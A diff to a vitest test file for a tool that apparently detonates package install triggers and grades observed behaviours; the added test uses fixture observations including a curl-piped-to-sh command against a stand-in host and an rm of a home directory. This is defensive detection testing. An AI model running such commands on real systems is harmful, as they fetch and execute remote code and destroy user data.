@@ -1,6 +1,6 @@
 import { expect, test } from "vitest";
 
-import type { TriggerDetonation } from "../detonation.ts";
+import type { TriggerDetonation, TriggerKind } from "../detonation.ts";
 import type { Observation } from "../observation.ts";
 import { findBehaviours } from "./find-behaviours.ts";
 
@@ -15,10 +15,7 @@ function tried(parts: Partial<Observation> & Pick<Observation, "kind" | "api">):
   return { detail: parts.api, data: {}, decoded: false, honey: [], location: null, atMs: 0, ...parts };
 }
 
-function triggerWith(
-  observations: readonly Observation[],
-  kind: "install" | "import" | "call" = "install",
-): TriggerDetonation {
+function triggerWith(observations: readonly Observation[], kind: TriggerKind = "install"): TriggerDetonation {
   return {
     trigger: { kind, name: "postinstall", starts: ["node setup.js"] },
     worlds: [
@@ -135,4 +132,13 @@ test("findBehaviours counts what is called as context alone", () => {
   expect(findBehaviours([triggerWith([sent], "call"), triggerWith([sent])])).toMatchObject([
     { id: "planted-secret-sent", strength: "decisive" },
   ]);
+});
+
+test.each<[string, Observation, string]>([
+  ["what some commands are for", file("writeFile", "/home/ada/code/app/.vscode/tasks.json"), "supporting"],
+  ["an attack anywhere else", command("curl -s http://collector.invalid/a | sh"), "strong"],
+  ["what nobody wants", file("rm", "/home/ada"), "decisive"],
+])("findBehaviours counts %s less or not when a person starts it", (_, seen, strength) => {
+  expect(findBehaviours([triggerWith([seen], "bin")])).toMatchObject([{ strength }]);
+  expect(findBehaviours([triggerWith([seen], "bin"), triggerWith([seen])])[0]?.strength).not.toBe("context");
 });
